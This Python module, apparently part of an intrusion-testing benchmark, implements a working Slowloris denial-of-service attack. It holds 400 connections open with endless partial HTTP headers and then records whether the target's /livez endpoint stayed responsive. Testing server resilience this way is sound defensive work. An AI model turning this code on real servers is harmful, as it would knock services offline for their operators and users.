"""Slowloris: many connections that send the head of a request byte by byte, and never end it."""

import socket
import time
from collections.abc import Iterator
from contextlib import ExitStack
from urllib.parse import urlsplit

from bench.intrusion.target import Finding, Target
from bench.intrusion.watch import probed

CONNECTIONS, LASTING_S = 400, 16.0
MOST_WAIT_S = 1.0


def attack(target: Target) -> Iterator[Finding]:
    place = urlsplit(target.address)
    with ExitStack() as held, probed(target) as waited:
        wires = [
            held.enter_context(socket.create_connection((str(place.hostname), int(place.port or 80))))
            for _ in range(CONNECTIONS)
        ]
        for wire in wires:
            wire.setblocking(False)
            wire.send(b"GET /livez HTTP/1.1\r\nHost: localhost\r\n")
        until = time.monotonic() + LASTING_S
        while time.monotonic() < until:
            time.sleep(1)
            wires = [wire for wire in wires if _drips(wire)]
    yield Finding(
        held=not wires and waited.longest_s < MOST_WAIT_S and not waited.lost,
        figure=f"{len(wires)} of {CONNECTIONS} connections whose heads drip in are left after {LASTING_S:.0f} s; "
        f"/livez waited {waited.longest_s:.2f} s at most",
    )


def _drips(wire: socket.socket) -> bool:
    """Send a little more, and say whether the connection still stands."""
    try:
        wire.send(b"X-A: b\r\n")
        wire.recv(4096)  # an answer, or the end
    except BlockingIOError:
        return True
    except OSError:
        pass
    return False
